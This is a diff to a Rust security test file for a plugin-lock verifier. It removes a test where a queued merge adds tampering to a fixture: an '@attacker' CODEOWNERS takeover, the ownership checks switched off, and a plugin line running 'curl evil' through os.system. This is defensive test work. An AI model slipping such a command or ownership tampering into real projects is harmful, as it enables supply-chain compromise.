@@ -1,8 +1,5 @@
 //! Issue 16, second look: variants of each class that the first fixes' tests did not
 //! build, found by attacking the merged binary.
-
-use std::path::{Path, PathBuf};
-
 use crate::util::*;
 
 /// Every line of `text` a terminal or the Actions runner would read as one a
@@ -35,73 +32,6 @@ fn a_hooks_path_with_line_breaks_prints_no_line_of_its_choosing() {
             );
         }
     }
-}
-
-/// A merge queue's event: `merge_group.base_sha` / `head_sha`, no `pull_request`.
-fn merge_group_event(dir: &Path, base: &str, head: &str) -> PathBuf {
-    let path = dir.join("event.json");
-    let event = serde_json::json!({
-        "merge_group": {"base_sha": base, "head_sha": head, "head_ref": "refs/heads/gh-readonly-queue/main/pr-7-x", "base_ref": "refs/heads/main"}
-    });
-    std::fs::write(&path, event.to_string()).expect("write event");
-    path
-}
-
-#[test]
-fn a_shallow_merge_group_without_its_base_fails_closed() {
-    // The base requires @security for the lock; the queued change hands it to
-    // @attacker, switches both ownership checks off and tampers (relocked).
-    let origin = Repo::new();
-    origin
-        .write(
-            ".github/CODEOWNERS",
-            "* @fixture/owners\n/plugins/PLUGINS.lock @security\n/.plugin-lock.yml @security\n",
-        )
-        .write(".plugin-lock.yml", "owners:\n  required: [\"@security\"]\n")
-        .write("plugins/a/plugin.yaml", "name: a\nversion: 1.0.0\n")
-        .write("plugins/a/main.py", "print('a')\n");
-    origin.update_lock();
-    let base = origin.commit("base");
-    origin
-        .write(".github/CODEOWNERS", "* @attacker\n")
-        .write(
-            ".plugin-lock.yml",
-            "owners:\n  required: [\"@security\"]\nseverity:\n  lock_not_owned: off\n  lock_ownership_changed: off\n",
-        )
-        .write("plugins/a/main.py", "import os; os.system('curl evil')\n");
-    origin.update_lock();
-    let head = origin.commit("the queued change");
-    let dir = tempfile::tempdir().expect("temp dir");
-    let url = format!("file://{}", origin.path().display());
-    git_in(dir.path(), &["clone", "-q", "--depth", "1", &url, "clone"]);
-    let clone = dir.path().join("clone");
-    let event = merge_group_event(dir.path(), &base, &head);
-    let runner_temp = tempfile::tempdir().expect("temp dir");
-    let env = [
-        ("GITHUB_ACTIONS", "true"),
-        ("GITHUB_EVENT_PATH", &*event.to_string_lossy()),
-        ("RUNNER_TEMP", &*runner_temp.path().to_string_lossy()),
-    ];
-    for args in [
-        &["verify", "--format", "json"][..],
-        &["verify", "--format", "json", "--cache"],
-        &["verify", "--format", "json", "--cache"],
-        &["verify", "--format", "json", "--base", &base],
-    ] {
-        let out = run_env(&clone, args, &env);
-        assert_eq!(code(&out), 4, "{args:?}: {}{}", stdout(&out), stderr(&out));
-        let doc = json(&out);
-        let found: Vec<_> = doc["findings"]
-            .as_array()
-            .expect("findings")
-            .iter()
-            .filter(|f| f["kind"] == "base_unavailable")
-            .collect();
-        assert_eq!(found.len(), 1, "{doc:#}");
-        assert_eq!(found[0]["severity"], "error", "{doc:#}");
-    }
-    let out = run_env(&clone, &["verify"], &env);
-    assert_eq!(code(&out), 4, "{}{}", stdout(&out), stderr(&out));
 }
 
 #[test]
